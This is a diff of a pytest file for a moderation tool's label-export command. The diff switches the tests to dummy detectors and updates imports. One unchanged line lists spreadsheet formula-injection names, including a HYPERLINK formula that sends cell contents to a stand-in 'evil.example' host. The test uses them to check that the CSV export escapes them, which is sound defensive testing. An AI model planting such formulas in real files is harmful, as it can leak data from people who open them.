@@ -1,5 +1,6 @@
 """`contentguard export-labels`, run as a real process on SQLite and PostgreSQL databases holding
-items moderated by the real models and decided through the review queue."""
+items moderated (by the dummy detectors: what is exported does not depend on the models) and
+decided through the review queue."""
 
 from __future__ import annotations
 
@@ -13,9 +14,9 @@ import sys
 from pathlib import Path
 
 import pytest
-from accounts import make_user
+from helpers.accounts import make_user
+from helpers.samples import image_bytes
 from PIL import Image
-from samples import image_bytes
 from sqlalchemy import delete
 
 from contentguard.schemas import ModerationResult
@@ -71,20 +72,20 @@ class Reviewed:
 
 
 @pytest.fixture
-def reviewed(db: Database, shared_moderator, shared_text_moderator):  # type: ignore[no-untyped-def]
+def reviewed(db: Database, dummy_moderator, dummy_text_moderator):  # type: ignore[no-untyped-def]
     """Four decided items with media (two PNGs, a JPEG, a text), one decided whose media was
     purged, one still waiting."""
     r = Reviewed(db)
     ids = {}
     for name, data in (("allowed.png", image_bytes(1)), ("blocked.png", image_bytes(2)),
                        ("blocked.jpg", jpeg_bytes()), ("purged.png", image_bytes(3))):
-        result = shared_moderator.moderate(data, name)
+        result = dummy_moderator.moderate(data, name)
         assert isinstance(result, ModerationResult)
         ids[name] = (r.store(result, media=data), result.id, data, result.decision)
-    (text,) = shared_text_moderator.moderate_many([("t", "you are a damn idiot")])
+    (text,) = dummy_text_moderator.moderate_many([("t", "you are a damn idiot")])
     ids["text"] = (r.store(text, text="you are a damn idiot"), text.id, b"you are a damn idiot",
                    text.decision)
-    r.store(shared_moderator.moderate(image_bytes(4), "waiting.png"), media=image_bytes(4))
+    r.store(dummy_moderator.moderate(image_bytes(4), "waiting.png"), media=image_bytes(4))
     r.decide("approve", "no_violation")
     r.decide("reject", "sexual_explicit")
     r.decide("reject", "other")
@@ -187,7 +188,7 @@ FORMULA_NAMES = ["-1-1", "@A1", '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
 def test_reviewer_names_in_the_csv_manifest_open_as_text_in_a_spreadsheet(
-        db: Database, shared_text_moderator, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+        db: Database, dummy_text_moderator, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
     """Reviewers whose names a spreadsheet would evaluate (`-1-1`, `@A1` pass the username rule;
     the others are refused by it, so they are written to the users table as an older version or
     a direct import could have) each decide one text; their cells get a leading `'`."""
@@ -200,7 +201,7 @@ def test_reviewer_names_in_the_csv_manifest_open_as_text_in_a_spreadsheet(
             allowed[name] = user.id
     texts = [(f"t{i}", f"review me please, item {i}") for i in range(len(FORMULA_NAMES))]
     r = Reviewed(db)
-    for (_, text), result in zip(texts, shared_text_moderator.moderate_many(texts), strict=True):
+    for (_, text), result in zip(texts, dummy_text_moderator.moderate_many(texts), strict=True):
         r.store(result, text=text)
     for name in FORMULA_NAMES:
         with db.session() as session:
